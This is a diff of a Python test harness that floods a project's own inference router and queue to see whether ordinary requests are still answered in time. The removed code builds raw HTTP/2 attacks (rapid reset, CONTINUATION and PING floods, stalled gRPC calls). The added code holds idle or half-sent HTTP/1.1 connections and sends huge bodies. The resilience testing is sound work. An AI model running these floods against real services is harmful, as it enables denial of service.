@@ -1,4 +1,4 @@
-"""Attacks on the doors of the data plane: connections, streams, calls and bodies that cost much.
+"""Attacks on the doors of the data plane: connections and bodies that cost much.
 
     python -m experiments.attack.front_doors [ATTACK ...]
 
@@ -13,7 +13,6 @@ from __future__ import annotations
 import argparse
 import asyncio
 import json
-import struct
 import subprocess
 import sys
 import tempfile
@@ -50,13 +49,12 @@ REFUSED = {"400", "413", "415"}
 # An ordinary request is answered within that, and as many of them as are asked for.
 WITHIN_S = 0.5
 RATE_RPS = 20.0
-GRPC_PATH = "/inference.GRPCInferenceService/ModelInfer"
-LIVE = "/v2/health/live"
+# The preface of HTTP/2, with which clients of gRPC begin.
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-# Frame types and flags of HTTP/2 (RFC 9113, 6).
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-END_STREAM, ACK, END_HEADERS = 1, 1, 4
-FRAME = 16384
+# The address of requests at each.
+INFER = {"router": f"/v2/models/{PIPELINE}/infer", "queue": f"/v2/models/{STAGE}/infer"}
+# Requests that a client sends before it takes an answer.
+GET, PIPELINED = f"GET /metrics HTTP/1.1\r\nhost: {HOME}\r\n\r\n".encode(), 50
 MB = 1_000_000
 
 
@@ -136,7 +134,7 @@ async def ask(target: Servers, number: int) -> str:
     body = json.dumps(
         {"inputs": [{"name": "x", "datatype": "INT64", "shape": [1], "data": [number]}]}
     ).encode()
-    request = post(f"/v2/models/{PIPELINE}/infer", body)
+    request = post(INFER["router"], body)
     try:
         async with asyncio.timeout(WITHIN_S):
             return await _answer(target.ports["router"], request)
@@ -197,32 +195,6 @@ class Door:
     is_body: bool = False
 
 
-def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """A frame of HTTP/2."""
-    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
-
-
-def header(name: str, value: str) -> bytes:
-    """A header field without compression (RFC 7541, 6.2.2)."""
-    parts = (name.encode(), value.encode())
-    return b"\x00" + b"".join(bytes((len(part),)) + part for part in parts)
-
-
-def fields(**given: str) -> bytes:
-    """Header fields without compression."""
-    return b"".join(header(name, value) for name, value in given.items())
-
-
-HEAD = {":method": "POST", ":scheme": "http", ":path": GRPC_PATH, ":authority": HOME}
-CALL = fields(**HEAD, **{"content-type": "application/grpc", "te": "trailers"})
-BEGIN = PREFACE + frame(SETTINGS, 0, 0)
-# A call whose message does not come.
-HALF_CALL = BEGIN + frame(HEADERS, END_HEADERS, 1, CALL)
-# A request whose answer gets no room: the initial window of streams is 0 (RFC 9113, 6.5.2).
-NO_ROOM = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
-NO_ROOM += frame(HEADERS, END_STREAM | END_HEADERS, 1, fields(**{**HEAD, ":method": "GET", ":path": LIVE}))
-
-
 async def _open(target: Servers, on: str = "router") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     return await asyncio.open_connection(HOME, target.ports[on])
 
@@ -231,8 +203,11 @@ async def nothing(target: Servers, seen: Counter[str]) -> None:
     """The effect of the machine itself on ordinary requests."""
 
 
-def held(begin: bytes, count: int = 700, on: str = "router") -> Attack:
-    """Connections that begin so and say nothing more; each that is closed is opened again at once."""
+def held(begin: bytes, count: int = 700, on: str = "router", *, takes: bool = True) -> Attack:
+    """Connections that begin so and say nothing more; each that is closed is opened again at once.
+
+    Unless the client `takes` answers, it reads none.
+    """
 
     async def attack(target: Servers, seen: Counter[str]) -> None:
         async def one() -> None:
@@ -241,7 +216,7 @@ def held(begin: bytes, count: int = 700, on: str = "router") -> Attack:
                     reader, writer = await _open(target, on)
                     writer.write(begin)
                     seen["opened"] += 1
-                    while await reader.read(4096):
+                    while await (reader.read(4096) if takes else asyncio.Event().wait()):
                         pass
                     writer.close()
                 except OSError as error:
@@ -253,130 +228,9 @@ def held(begin: bytes, count: int = 700, on: str = "router") -> Attack:
     return attack
 
 
-async def _flood(
-    target: Servers, seen: Counter[str], begin: bytes, blocks: Callable[[], Iterator[bytes]]
-) -> None:
-    """Send as much as is taken, over eight connections that are opened again each time they are closed."""
-
-    async def one() -> None:
-        while True:
-            try:
-                reader, writer = await _open(target)
-                reading = asyncio.create_task(reader.read(-1))
-                writer.write(begin)
-                seen["opened"] += 1
-                for block in blocks():
-                    writer.write(block)
-                    await writer.drain()
-                    seen["blocks"] += 1
-                await reading
-            except OSError:
-                seen["closed"] += 1
-            await asyncio.sleep(0.05)
-
-    await asyncio.gather(*(one() for _ in range(8)))
-
-
-async def rapid_reset(target: Servers, seen: Counter[str]) -> None:
-    """Begin calls and take each back at once (CVE-2023-44487)."""
-
-    def blocks() -> Iterator[bytes]:
-        for first in range(1, 2**30, 200):
-            streams = range(first, first + 200, 2)
-            yield b"".join(
-                frame(HEADERS, END_HEADERS, it, CALL) + frame(RST_STREAM, 0, it, bytes((0, 0, 0, 8)))
-                for it in streams
-            )
-
-    await _flood(target, seen, BEGIN, blocks)
-
-
-async def continuations(target: Servers, seen: Counter[str]) -> None:
-    """Begin headers that do not end (VU#421644)."""
-
-    def blocks() -> Iterator[bytes]:
-        while True:
-            yield frame(CONTINUATION, 0, 1, header("x", "y" * 100) * 100)
-
-    await _flood(target, seen, BEGIN + frame(HEADERS, 0, 1, CALL), blocks)
-
-
-async def pings(target: Servers, seen: Counter[str]) -> None:
-    """Ask for answers to frames of control (CVE-2019-9512 and -9515)."""
-
-    def blocks() -> Iterator[bytes]:
-        while True:
-            yield (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500
-
-    await _flood(target, seen, BEGIN, blocks)
-
-
-def calls(size: int, count: int, *, whole: bool = True) -> Attack:
-    """Calls of gRPC at once, each with a message of that many bytes, whole or but for its last byte."""
-    # A message without a known field but `raw_input_contents`, its seventh.
-    length = size - 5
-    varint = bytes([*((length >> shift & 127) | 128 for shift in (0, 7, 14)), length >> 21])
-    message = b"\x3a" + varint + bytes(size - 5)
-    body = b"\x00" + struct.pack(">I", len(message)) + (message if whole else message[:-1])
-
-    async def attack(target: Servers, seen: Counter[str]) -> None:
-        async def one() -> None:
-            while True:
-                seen[await _call(target, body)] += 1
-                await asyncio.sleep(0.2)
-
-        await asyncio.gather(*(one() for _ in range(count)))
-
-    return attack
-
-
-async def _call(target: Servers, body: bytes) -> str:
-    """Make a call, within the windows that the server gives, and return how it ended."""
-    import h2.config
-    import h2.connection
-    import h2.events
-    import h2.exceptions
-
-    http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
-    http.initiate_connection()
-    sent = 0
-    try:
-        reader, writer = await _open(target)
-    except OSError as error:
-        return type(error).__name__
-    try:
-        http.send_headers(
-            1,
-            [*HEAD.items(), ("content-type", "application/grpc"), ("te", "trailers")],
-        )
-        while True:
-            while sent < len(body) and (room := min(http.local_flow_control_window(1), FRAME)):
-                http.send_data(1, body[sent : sent + room], end_stream=sent + room >= len(body))
-                sent += room
-                writer.write(http.data_to_send())
-                await writer.drain()
-            writer.write(http.data_to_send())
-            data = await reader.read(1 << 16)
-            if not data:
-                return "closed"
-            for event in http.receive_data(data):
-                if isinstance(event, h2.events.StreamReset):
-                    return f"reset {event.error_code}"
-                given = dict(getattr(event, "headers", None) or {})
-                if b"grpc-status" in given:
-                    return f"grpc-status {given[b'grpc-status'].decode()}"
-                if isinstance(event, h2.events.ConnectionTerminated):
-                    return f"terminated {event.error_code}"
-    except (OSError, h2.exceptions.H2Error) as error:
-        return type(error).__name__
-    finally:
-        writer.close()
-
-
 def bodies(body: bytes, headers: Mapping[str, str], senders: int, on: str = "router") -> Attack:
     """The same request again and again, by that many senders."""
-    name = PIPELINE if on == "router" else STAGE
-    request = post(f"/v2/models/{name}/infer", body, headers)
+    request = post(INFER[on], body, headers)
 
     async def attack(target: Servers, seen: Counter[str]) -> None:
         async def one() -> None:
@@ -427,17 +281,15 @@ def bomb(size: int) -> bytes:
 def doors() -> Iterator[Door]:
     """All attacks; the bodies are made only when it is their turn."""
     yield Door("no attack", nothing)
+    body = bytes(8 * MB)
     for on in WATCHED:
-        yield Door(f"700 idle HTTP/2 connections, {on}", held(BEGIN, on=on), on)
-        yield Door(f"700 half calls over HTTP/2, {on}", held(HALF_CALL, on=on), on)
-        yield Door(f"700 answers that are not taken, {on}", held(NO_ROOM, on=on), on)
-    yield Door("10 100 idle HTTP/2 connections", held(BEGIN, 10_100), files=MANY_FILES, seconds=8.0)
-    yield Door("rapid reset", rapid_reset)
-    yield Door("CONTINUATION flood", continuations)
-    yield Door("PING and SETTINGS flood", pings)
-    yield Door("30 gRPC calls of 60 MB", calls(60 * MB, 30))
-    yield Door("30 gRPC calls of 8 MB", calls(8 * MB, 30))
-    yield Door("300 gRPC calls of 8 MB without an end", calls(8 * MB, 300, whole=False))
+        yield Door(f"700 idle connections, {on}", held(b"", on=on), on)
+        yield Door(f"700 half requests, {on}", held(post(INFER[on], b"{}")[:-1], on=on), on)
+        yield Door(f"700 answers that are not taken, {on}", held(GET * PIPELINED, on=on, takes=False), on)
+    yield Door("10 100 idle connections", held(b"", 10_100), files=MANY_FILES, seconds=8.0)
+    yield Door("100 clients of HTTP/2", held(PREFACE, 100))
+    yield Door("30 bodies of 60 MB", bodies(bytes(60 * MB), {}, 30))
+    yield Door("300 bodies of 8 MB without an end", held(post(INFER["router"], body)[:-1], 300))
     for on in ("router", "queue"):
         for size in (8, 16) if on == "queue" else (16,):
             body, headers = binary_body("[1]", bytes(size * MB))
